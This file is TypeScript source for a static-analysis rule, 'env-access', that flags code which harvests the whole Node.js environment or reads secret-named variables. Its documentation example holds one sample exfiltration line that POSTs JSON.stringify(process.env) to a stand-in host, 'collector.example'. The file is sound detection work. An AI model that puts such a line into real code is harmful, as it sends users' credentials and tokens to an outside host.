import type { Node } from '@babel/types';
import { defineRule, reportMatches, type FileContext, descendants, parentOf } from '../src/engine/api.js';
import { NON_SECRET_ENV_NAME, SECRET_ENV_NAME } from '../src/engine/indicators.js';
import { aiKeyProvider } from '../src/engine/ai-indicators.js';

/** Calls that turn the whole environment into data that can be sent somewhere. */
const SERIALIZERS = new Set([
  'JSON.stringify', 'Object.keys', 'Object.entries', 'Object.values', 'Object.getOwnPropertyNames', 'Reflect.ownKeys',
  'querystring.stringify', 'querystring.encode', 'URLSearchParams', 'Buffer.from', 'btoa', 'util.inspect', 'v8.serialize',
]);

function isProcessEnv(node: Node, ctx: FileContext): boolean {
  return ctx.evaluator.canonical(node) === 'process.env';
}

/**
 * Whether a value is, or wraps, the whole environment: `process.env`, `{ env: process.env }`,
 * `{ ...process.env }`, or a name bound to one of those.
 */
function holdsWholeEnv(node: Node, ctx: FileContext, depth = 0): boolean {
  if (depth > 4) return false;
  if (isProcessEnv(node, ctx)) return true;
  if (node.type === 'ObjectExpression') {
    return node.properties.some((p) =>
      p.type === 'SpreadElement' ? holdsWholeEnv(p.argument, ctx, depth + 1) : p.type === 'ObjectProperty' ? holdsWholeEnv(p.value as Node, ctx, depth + 1) : false,
    );
  }
  if (node.type === 'ArrayExpression') return node.elements.some((e) => !!e && holdsWholeEnv(e.type === 'SpreadElement' ? e.argument : e, ctx, depth + 1));
  if (node.type === 'Identifier') {
    const init = ctx.evaluator.initOf(node);
    return !!init && (init.type === 'ObjectExpression' || init.type === 'ArrayExpression') && holdsWholeEnv(init, ctx, depth + 1);
  }
  return false;
}

/** `Object.keys(process.env).filter(k => /^DEBUG_/.test(k))`: reading one's own prefixed settings. */
function prefixFiltered(call: Node): boolean {
  const member = parentOf(call);
  if (member?.type !== 'MemberExpression' || member.object !== call || member.property.type !== 'Identifier' || member.property.name !== 'filter') return false;
  const filterCall = parentOf(member);
  if (filterCall?.type !== 'CallExpression') return false;
  const fn = filterCall.arguments[0];
  if (!fn || (fn.type !== 'ArrowFunctionExpression' && fn.type !== 'FunctionExpression')) return false;
  for (const n of descendants(fn.body, 2000)) {
    if (n.type === 'RegExpLiteral' && n.pattern.startsWith('^')) return true;
    if (n.type === 'Identifier' && n.name === 'startsWith') return true;
    if (n.type === 'StringLiteral' && n.value === 'startsWith') return true;
  }
  return false;
}

export default defineRule({
  meta: {
    id: 'env-access',
    title: 'Environment harvesting',
    description:
      'Reports code that reads the whole environment (serializes, iterates, spreads or copies `process.env`) and reads of variables whose names hold secrets (tokens, keys, passwords). Reading one named setting is normal; collecting all of them is how credential stealers start.',
    severity: 'medium',
    category: 'environment',
    references: ['https://nodejs.org/api/process.html#processenv'],
    docs: {
      example: 'https.request({ host: "collector.example", method: "POST" }).end(JSON.stringify(process.env))',
      suppress: 'Turn the rule off for a run with `tollgate scan --disable-rule env-access`; its findings then neither show nor count toward the score.',
    },
  },
  create() {
    return {
      lexical(ctx) {
        if (!ctx.unreadable) return;
        reportMatches(ctx, /\b(?:JSON\.stringify|Object\.(?:keys|entries|values))\s*\(\s*process\.env\s*\)/, 3, () => ({
          message: 'serializes the whole environment (found by the lexical scan; the file was not parsed)',
          severity: 'high',
          signals: ['source:env-bulk'],
        }));
      },
      call(call, ctx) {
        if (!call.callee || !SERIALIZERS.has(call.callee)) return;
        const arg = call.node.arguments[0];
        if (!arg || arg.type === 'ArgumentPlaceholder') return;
        const target = arg.type === 'SpreadElement' ? arg.argument : arg;
        if (!holdsWholeEnv(target, ctx)) return;
        if ((call.callee === 'Object.keys' || call.callee === 'Object.entries') && prefixFiltered(call.node)) {
          ctx.report({ node: call.node, message: `reads the environment variables with its own prefix (${call.callee}(process.env).filter(…))`, severity: 'info' });
          return;
        }
        // Listing variable names is how tools find their own settings; values (entries, JSON…) are what leaves.
        const enumerates = /^(?:Object\.(?:keys|getOwnPropertyNames)|Reflect\.ownKeys)$/.test(call.callee);
        ctx.report({
          node: call.node,
          message: `${enumerates ? 'enumerates' : 'serializes'} the whole environment with ${call.callee}(${isProcessEnv(target, ctx) ? 'process.env' : '…process.env…'})`,
          severity: enumerates ? 'low' : 'high',
          signals: ['source:env-bulk'],
        });
      },
      nodes: {
        ForInStatement(node, ctx) {
          if (node.type === 'ForInStatement' && isProcessEnv(node.right, ctx)) {
            ctx.report({ node, message: 'iterates over every environment variable', severity: 'medium', signals: ['source:env-bulk'] });
          }
        },
        SpreadElement(node, ctx) {
          if (node.type !== 'SpreadElement' || !isProcessEnv(node.argument, ctx)) return;
          const parent = parentOf(node);
          if (parent?.type !== 'ObjectExpression') return;
          // `{ ...process.env, FOO: 1 }` handed to a child process is how env is normally passed on.
          const holder = parentOf(parent);
          if (holder?.type === 'ObjectProperty' && holder.key.type === 'Identifier' && /^env$/i.test(holder.key.name)) return;
          if (holder?.type === 'VariableDeclarator' && holder.id.type === 'Identifier' && /env/i.test(holder.id.name)) return;
          if (holder?.type === 'AssignmentExpression' && holder.left.type === 'MemberExpression' && holder.left.property.type === 'Identifier' && /^env$/i.test(holder.left.property.name)) return;
          ctx.report({ node, message: 'copies every environment variable into an object', severity: 'low', signals: ['source:env-bulk'] });
        },
        MemberExpression(node, ctx) {
          if (node.type !== 'MemberExpression') return;
          // Cheap test first: only secret-looking property names are worth resolving.
          const name = !node.computed && node.property.type === 'Identifier' ? node.property.name : node.computed ? ctx.evaluator.foldString(node.property) : undefined;
          if (!name || !SECRET_ENV_NAME.test(name) || NON_SECRET_ENV_NAME.test(name)) return;
          // AI provider keys are the ai-keys rule's: one finding per read.
          if (aiKeyProvider(name)) return;
          if (ctx.evaluator.canonical(node.object) !== 'process.env') return;
          ctx.report({ node, message: `reads secret-bearing environment variable ${name}`, severity: 'low', signals: ['source:env-secret'] });
        },
      },
    };
  },
});
